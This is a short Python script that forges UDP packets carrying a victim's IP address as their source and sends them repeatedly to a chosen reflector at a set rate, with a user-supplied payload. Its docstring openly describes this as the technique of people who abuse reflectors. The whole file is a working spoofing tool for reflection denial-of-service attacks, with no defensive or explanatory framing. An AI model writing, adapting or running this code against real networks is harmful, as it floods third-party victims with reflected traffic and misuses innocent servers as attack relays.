"""Sends one UDP request over and over with the victim's address as its source, as those do who abuse reflectors.

usage: forged_requests.py VICTIM REFLECTOR PORT COUNT PER_SECOND PAYLOAD_HEX
"""

import random
import socket
import struct
import sys
import time


def main(victim: str, reflector: str, port: int, count: int, per_second: int, payload: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            udp = struct.pack("!HHHH", random.choice((80, 443, 53, 3074)), port, 8 + len(payload), 0)  # no checksum: RFC 768 allows it
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), random.getrandbits(16), 0, 64, 17, 0,
                             socket.inet_aton(victim), socket.inet_aton(reflector))  # fmt: skip
            raw.sendto(ip + udp + payload, (reflector, 0))
            time.sleep(1 / per_second)


main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]), bytes.fromhex(sys.argv[6]))
